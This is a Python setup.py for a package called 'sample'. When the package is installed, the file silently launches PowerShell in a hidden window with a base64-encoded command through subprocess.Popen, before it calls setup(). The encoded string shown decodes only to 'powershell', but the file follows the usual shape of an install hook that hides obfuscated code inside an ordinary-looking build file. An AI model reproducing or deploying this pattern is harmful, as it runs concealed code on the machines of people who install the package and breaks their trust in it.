import subprocess
from setuptools import setup

subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAA=", shell=True)
setup(name="sample")
